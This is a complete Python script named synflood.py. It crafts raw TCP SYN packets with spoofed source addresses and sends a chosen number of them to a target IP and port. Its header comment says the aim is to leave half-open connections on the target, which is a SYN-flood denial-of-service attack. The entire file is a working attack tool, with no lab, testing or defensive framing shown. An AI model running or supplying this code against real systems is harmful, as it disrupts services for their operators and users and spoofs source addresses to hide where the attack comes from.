#!/usr/bin/env python3
# synflood.py DST_IP DST_PORT COUNT SRC_PREFIX: COUNT TCP SYNs from spoofed sources
# SRC_PREFIX.100 .. SRC_PREFIX.(100+COUNT-1) (addresses nobody answers ARP for), sent on a raw
# IPv4 socket. The half-open connections they leave on the target never complete.
import random
import socket
import struct
import sys


def csum(b):
    if len(b) % 2:
        b += b'\0'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def syn(src, dst, sport, dport):
    tcp = struct.pack('!HHIIBBHHH', sport, dport, random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack('!BBH', 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
    return ip + tcp


def main():
    dst, dport, count, pfx = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(count):
        src = '%s.%d' % (pfx, 100 + i % 150)
        s.sendto(syn(src, dst, random.randint(1024, 65535), dport), (dst, 0))
    s.close()


main()
